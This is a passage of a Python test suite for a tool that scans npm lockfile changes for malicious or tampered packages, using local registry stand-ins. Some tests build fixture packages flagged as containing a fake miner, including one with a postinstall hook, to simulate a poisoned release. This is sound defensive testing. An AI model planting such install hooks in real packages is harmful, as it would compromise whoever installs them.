        (repository.path / ".git/index").write_bytes(b"DIRC nonsense")
        self.assert_one_sentence(self.run_it("gate", "--base", "main", cwd=repository.path),
                                 NO_VERDICT, "index", "git reset")

    def test_no_repository(self) -> None:
        outcome = self.run_it("gate", "--base", "main", cwd=self.world.folder("nothing"))
        self.assert_one_sentence(outcome, NO_VERDICT, "no git repository", "--lockfile")

    def test_options_that_contradict(self) -> None:
        for arguments in (("--staged", "--head", "main"), ("--lockfile", "package-lock.json"),
                          ("--against", "package-lock.json")):
            outcome = self.run_it("gate", *arguments, cwd=self.repository().path)
            self.assert_one_sentence(outcome, NO_VERDICT, arguments[0].lstrip("-"))


class Served(Gate):
    def setUp(self) -> None:
        self.server = peers.Pages()
        self.server.__enter__()
        self.addCleanup(self.server.__exit__)
        self.npm = NpmPages(self.server)
        self.home = self.world.folder("home")


class Packages(Served):
    def entry(self, name: str, version: str = "1.0.0", miner: bool = False, **more: object) -> dict:
        data = package_files.npm_tarball(self.world, name, version, miner)
        path = self.npm.add(name, version, data)
        return {"version": version, "resolved": self.server.url + path, "integrity": sri(data),
                **more}

    def check(self, status: int, repository: Repository, *arguments: object) -> Report:
        return self.gate(status, repository, "--npm-registry", self.server.url, *arguments,
                         HOME=str(self.home))

    def test_only_what_the_change_brings_is_fetched(self) -> None:
        old, new = self.entry("old-shop"), self.entry("new-shop")
        repository = self.repository({"package-lock.json": lockfile({"old-shop": old})})
        repository.write({"package-lock.json": lockfile({"new-shop": new, "old-shop": old})})
        cache = ("--cache-dir", self.world.folder("cache") / "c")
        report = self.check(CLEAN, repository, *cache)
        self.assertEqual([p for p in self.server.paths() if p.endswith(".tgz")],
                         ["/new-shop/-/new-shop-1.0.0.tgz"])
        packages = report.json["review"]["packages"]
        self.assertEqual([(p["change"], p["after"], p["outcome"]) for p in packages],
                         [("added", "pkg:npm/new-shop@1.0.0", "scanned")])
        # A second time nothing is.
        self.server.requests.clear()
        self.assertEqual(self.check(CLEAN, repository, *cache).json, report.json)
        self.assertEqual(self.server.paths(), [])

    def test_what_is_said_to_be_bundled_must_lie_in_an_archive_of_the_change(self) -> None:
        held = json.dumps({"name": "inner", "version": "2.0.0"}).encode()
        data = package_files.tgz({
            "package/package.json": json.dumps({"name": "outer", "version": "1.0.0",
                                                "bundleDependencies": ["inner"]}).encode(),
            "package/node_modules/inner/package.json": held})
        path = self.npm.add("outer", "1.0.0", data)
        outer = {"version": "1.0.0", "resolved": self.server.url + path, "integrity": sri(data),
                 "bundleDependencies": ["inner"]}
        inside = {"version": "2.0.0", "inBundle": True}
        repository = self.repository({"package-lock.json": lockfile({})})
        name = "outer/node_modules/inner"
        repository.write({"package-lock.json": lockfile({"outer": outer, name: inside})})
        self.check(CLEAN, repository)
        # Another version than the archive's, and one that no archive holds.
        for more in ({name: {**inside, "version": "2.0.1"}},
                     {name: inside, "outer/node_modules/other": inside}):
            repository.write({"package-lock.json": lockfile({"outer": outer, **more})})
            report = self.check(INCOMPLETE, repository)
            self.assertEqual([gap["reason"] for gap in report.json["coverage"]["gaps"]],
                             ["net.missing"])
            self.assertIn("said to be bundled", report.json["coverage"]["gaps"][0]["detail"])

    def test_a_finding_stands_on_the_line_of_the_lockfile(self) -> None:
        good = self.entry("good-shop")
        repository = self.repository({"web/package-lock.json": lockfile({"good-shop": good})})
        text = lockfile({"good-shop": good, "zz-shop": self.entry("zz-shop", miner=True)})
        repository.write({"web/package-lock.json": text})
        report = self.check(FOUND, repository)
        found = [f for f in report.findings if f["level"] == "error"]
        self.assertTrue(found)
        for finding in found:
            self.assertEqual(finding["package"], "pkg:npm/zz-shop@1.0.0")
            self.assertEqual(finding["lockfile"], {"path": "web/package-lock.json",
                                                   "line": line_of(text, "zz-shop")})
            self.assertEqual(finding["path"], f"package/lib/{MINER}")
        sarif = json.loads(self.run_it(
            "gate", "--base", "main", "--npm-registry", self.server.url, "--format", "sarif",
            cwd=repository.path, environment={"HOME": str(self.home)}).out)
        result = next(r for r in sarif["runs"][0]["results"] if r["level"] == "error")
        place = result["locations"][0]["physicalLocation"]
        self.assertEqual(place["artifactLocation"]["uri"], "web/package-lock.json")
        self.assertEqual(place["region"]["startLine"], line_of(text, "zz-shop"))

    def test_removed_packages_are_neither_fetched_nor_do_they_fail(self) -> None:
        bad = self.entry("bad-shop", miner=True)
        repository = self.repository({"package-lock.json": lockfile({"bad-shop": bad})})
        repository.write({"package-lock.json": lockfile({})})
        report = self.check(CLEAN, repository)
        self.assertEqual(self.server.paths(), [])
        self.assertEqual(report.json["review"]["packages"][0]["change"], "removed")

    def test_other_bytes_for_the_same_version_are_a_finding(self) -> None:
        entry = self.entry("left-shop")
        repository = self.repository({"package-lock.json": lockfile({"left-shop": entry})})
        other = package_files.tgz({"package/package.json": b'{"name": "left-shop", '
                                                           b'"version": "1.0.0"}'})
        self.npm.add("left-shop", "1.0.0", other)
        entry = {**entry, "integrity": sri(other)}
        text = lockfile({"left-shop": entry})
        repository.write({"package-lock.json": text})
        report = self.check(FOUND, repository)
        changed = next(f for f in report.findings if f["rule"] == "MSN6001")
        self.assertEqual(changed["lockfile"]["line"], line_of(text, "left-shop"))

    def test_another_host_for_the_same_version_is_a_finding(self) -> None:
        entry = self.entry("left-shop")
        before = {**entry, "resolved": "https://npm.example/left-shop/-/left-shop-1.0.0.tgz"}
        repository = self.repository({"package-lock.json": lockfile({"left-shop": before})})
        repository.write({"package-lock.json": lockfile({"left-shop": entry})})
        self.assertIn("MSN6003", self.rules(self.check(CLEAN, repository)))

    def test_wrong_bytes_are_no_verdict(self) -> None:
        entry = {**self.entry("left-shop"), "integrity": sri(b"something else")}
        repository = self.repository()
        repository.write({"package-lock.json": lockfile({"left-shop": entry})})
        report = self.check(NO_VERDICT, repository)
        self.assertIn("package-lock.json:", report.json["failures"][0]["what"])
        self.assertNotEqual(report.json["review"]["packages"][0]["outcome"], "scanned")

    def test_a_package_that_is_not_there_is_not_clean(self) -> None:
        entry = self.entry("left-shop")
        self.server.pages.clear()
        repository = self.repository()
        repository.write({"package-lock.json": lockfile({"left-shop": entry})})
        report = self.check(INCOMPLETE, repository)
        self.assertTrue(any("left-shop" in str(gap) for gap in report.gaps))

    def test_a_registry_that_does_not_answer_is_no_verdict(self) -> None:
        entry = self.entry("left-shop")
        entry["resolved"] = f"http://127.0.0.1:{peers.free_port()}/left-shop.tgz"
        repository = self.repository()
        repository.write({"package-lock.json": lockfile({"left-shop": entry})})
        self.check(NO_VERDICT, repository)

    def test_a_lockfile_that_cannot_be_read_is_not_clean(self) -> None:
        repository = self.repository({"package-lock.json": lockfile({})})
        repository.write({"package-lock.json": b'{"lockfileVersion": 3,\n "packages": {\n'})
        report = self.check(INCOMPLETE, repository)
        self.assertIn("package-lock.json:", " ".join(gap["detail"] for gap in report.gaps))
        repository.write({"package-lock.json": b'{"lockfileVersion": 77, "packages": {}}'})
        self.check(INCOMPLETE, repository)

    def test_a_base_that_cannot_be_read_means_that_all_is_new(self) -> None:
        repository = self.repository({"package-lock.json": b"{"})
        repository.write({"package-lock.json": lockfile({"bad-shop": self.entry("bad-shop",
                                                                                miner=True)})})
        self.check(FOUND, repository)

    def test_a_requirement_that_no_lockfile_knows_is_a_gap(self) -> None:
        repository = self.repository({"app/package.json": b'{"name": "a"}\n'})
        manifest = b'{"name": "a", "dependencies": {"left-shop": "^1.0.0"}}\n'
        repository.write({"app/package.json": manifest})
        report = self.check(INCOMPLETE, repository)
        self.assertIn("left-shop", report.gaps[0]["detail"])
        locked = json.loads(lockfile({"left-shop": self.entry("left-shop")}))
        repository.write({"package-lock.json": json.dumps(locked).encode()})
        # A lockfile that was not made for the folder keeps nobody from fetching what it likes.
        self.check(INCOMPLETE, repository)
        locked["packages"]["app"] = {"dependencies": {"left-shop": "^1.0.0"}}
        repository.write({"package-lock.json": json.dumps(locked).encode()})
        self.assertEqual(self.check(CLEAN, repository).gaps, [])

    def test_a_requirement_that_the_lockfile_was_not_made_for_is_a_gap(self) -> None:
        wish = {"left-shop": "^1.0.0"}
        locked = json.loads(lockfile({"left-shop": self.entry("left-shop")}))
        locked["packages"][""]["dependencies"] = wish
        repository = self.repository({
            "package.json": json.dumps({"name": "a", "dependencies": wish}).encode(),
            "package-lock.json": json.dumps(locked).encode()})
        for other in ({**wish, "right-shop": "1"}, {"left-shop": "^2.0.0"},
                      {"left-shop": "npm:right-shop@1"}, {"left-shop": "https://x.example/a.tgz"}):
            manifest = json.dumps({"name": "a", "dependencies": other}).encode()
            repository.write({"package.json": manifest})
            self.assertIn("no lockfile was made for it",
                          self.check(INCOMPLETE, repository).gaps[0]["detail"])
        # What npm reads and a strict reader does not may ask for anything.
        twice = b'{"dependencies": {}, "dependencies": {"right-shop": "1"}}'
        repository.write({"package.json": twice})
        self.check(INCOMPLETE, repository)

    def test_a_git_dependency_is_a_gap(self) -> None:
        repository = self.repository()
        repository.write({"package-lock.json": lockfile({"x": {
            "version": "1.0.0", "resolved": "git+ssh://git@code.example/o/x.git#" + "a" * 40}})})
        report = self.check(INCOMPLETE, repository)
        self.assertIn("code.example", " ".join(gap["detail"] for gap in report.gaps))

    def test_the_registry_that_the_change_names_is_not_asked(self) -> None:
        other = peers.Pages()
        other.__enter__()
        self.addCleanup(other.__exit__)
        repository = self.repository({".npmrc": f"registry={self.server.url}/\n".encode()})
        entry = self.entry("left-shop")
        del entry["resolved"]
        repository.write({"package-lock.json": lockfile({"left-shop": entry}),
                          ".npmrc": f"registry={other.url}/\n".encode()})
        report = self.gate(CLEAN, repository, HOME=str(self.home))
        self.assertEqual(other.requests, [])
        self.assertIn("MSN6040", self.rules(report, ".npmrc"))

    def test_a_lockfile_behind_a_link_is_read(self) -> None:
        repository = self.repository({"locks/l.json": lockfile({})})
        (repository.path / "package-lock.json").symlink_to("locks/l.json")
        repository.commit("a link")
        repository.write({"locks/l.json": lockfile({"bad-shop": self.entry("bad-shop",
                                                                           miner=True)})})
        self.check(FOUND, repository)

    def test_a_folder_that_ends_like_node_modules_is_none(self) -> None:
        repository = self.repository()
        repository.write({"my-node_modules/package-lock.json": lockfile(
            {"bad-shop": self.entry("bad-shop", miner=True)})})
        self.check(FOUND, repository)

    def test_a_path_that_is_not_in_the_tree_is_a_gap(self) -> None:
        repository = self.repository()
        repository.write({"package-lock.json": lockfile(
            {"x": {"version": "1.0.0", "resolved": "file:missing.tgz"}})})
        report = self.check(INCOMPLETE, repository)
        self.assertIn("missing.tgz", " ".join(gap["detail"] for gap in report.gaps))

    def test_a_page_in_place_of_a_package_is_not_clean(self) -> None:
        self.server.pages["/x.tgz"] = b"<html><body>Please log in.</body></html>"
        repository = self.repository()
        repository.write({"package-lock.json": lockfile(
            {"x": {"version": "1.0.0", "resolved": self.server.url + "/x.tgz"}})})
        report = self.check(INCOMPLETE, repository)
        self.assertIn("no archive", " ".join(gap["detail"] for gap in report.gaps))

    def test_a_list_that_is_not_read_is_a_gap(self) -> None:
        repository = self.repository()
        repository.write({"deno.lock": b"{}", "Package-Lock.json": b"{}"})
        self.assertEqual(len(self.check(INCOMPLETE, repository).gaps), 2)

    def test_two_lockfiles_without_git(self) -> None:
        folder = self.world.folder("locks")
        new = lockfile({"bad-shop": self.entry("bad-shop", miner=True)})
        images.write_files(folder, {"old/package-lock.json": lockfile({}),
                                    "package-lock.json": new})
        arguments = ["gate", "--lockfile", "package-lock.json", "--against",
                     "old/package-lock.json", "--npm-registry", self.server.url]
        options = {"cwd": folder, "environment": {"HOME": str(self.home)}}
        report = self.scan(FOUND, *arguments, **options)
        found = next(f for f in report.findings if f["level"] == "error")
        self.assertEqual(found["lockfile"], {"path": "package-lock.json",
                                             "line": line_of(new, "bad-shop")})
        arguments[2], arguments[4] = arguments[4], arguments[2]
        self.scan(CLEAN, *arguments, **options)
        outcome = self.run_it("gate", "--lockfile", "package-lock.json", "--against", "nope.json",
                              **options)
        self.assert_one_sentence(outcome, NO_VERDICT, "nope.json")

    def test_what_a_version_brought(self) -> None:
        old = package_files.npm_tarball(self.world, "left-shop", "1.0.0", False)
        new = package_files.tgz({
            "package/package.json": b'{"name": "left-shop", "version": "1.0.1",\n'
                                    b'"scripts": {"postinstall": "node lib/x.js"}}',
            "package/index.js": b"module.exports = (s) => s.trim();\n",
            f"package/lib/{MINER}": rogue.fake_miner()})
        self.npm.add("left-shop", "1.0.0", old)
        self.npm.add("left-shop", "1.0.1", new)
        options = {"environment": {"HOME": str(self.home)}}
        arguments = ("--npm-registry", self.server.url)
        report = self.scan(FOUND, "diff", "npm:left-shop@1.0.0", "npm:left-shop@1.0.1", *arguments,
                           **options)
        self.assertTrue({"MSN6010", "MSN6020"} <= set(self.rules(report)), self.rules(report))
        self.scan(CLEAN, "diff", "npm:left-shop@1.0.1", "npm:left-shop@1.0.0", *arguments, **options)
        same = self.scan(CLEAN, "diff", "npm:left-shop@1.0.1", "npm:left-shop@1.0.1", *arguments,
                         **options)
        self.assertEqual({f["suppressed"]["kind"] for f in same.findings}, {"baseline"})


class Installed(Served):
    """Packages that lie unpacked in a tree."""

    def installed(self, name: str, miner: bool = False) -> pathlib.Path:
        data = package_files.npm_tarball(self.world, name, "1.0.0", miner)
        self.npm.add(name, "1.0.0", data)
        folder = self.world.folder("tree")
        target = folder / "node_modules" / name
        target.mkdir(parents=True)
        (folder / "package.tgz").write_bytes(data)
        self.world.tool("tar", "-xzf", folder / "package.tgz", "-C", target, "--strip-components=1")
        (folder / "package.tgz").unlink()
        return folder

    def look(self, status: int, tree: pathlib.Path, *arguments: object) -> Report:
        return self.scan(status, "repo", tree, "--npm-registry", self.server.url, *arguments,
                         environment={"HOME": str(self.home)})

    def test_a_finding_names_the_package_that_it_lies_in(self) -> None:
        tree = self.installed("left-shop", miner=True)
        found = [f for f in self.look(FOUND, tree).findings if f["level"] == "error"]
        self.assertEqual({f["package"] for f in found}, {"pkg:npm/left-shop@1.0.0"})
        self.assertEqual({f["path"] for f in found}, {f"node_modules/left-shop/lib/{MINER}"})
        self.assertEqual(self.server.paths(), [])

    def test_files_that_are_not_the_registrys_are_said_to_differ(self) -> None:
        tree = self.installed("left-shop")
        self.assertEqual(self.look(CLEAN, tree, "--verify-installed").findings, [])
        script = tree / "node_modules/left-shop/index.js"
        script.write_bytes(script.read_bytes() + b"// patched\n")
        report = self.look(CLEAN, tree, "--verify-installed")
        self.assertEqual([(f["rule"], f["path"]) for f in report.findings],
                         [("MSN6070", "node_modules/left-shop/index.js")])

    def test_a_package_that_the_registry_does_not_have_cannot_be_compared(self) -> None:
        tree = self.installed("left-shop")
        self.server.pages.clear()
        report = self.look(INCOMPLETE, tree, "--verify-installed")
        self.assertIn("left-shop", report.gaps[0]["detail"])
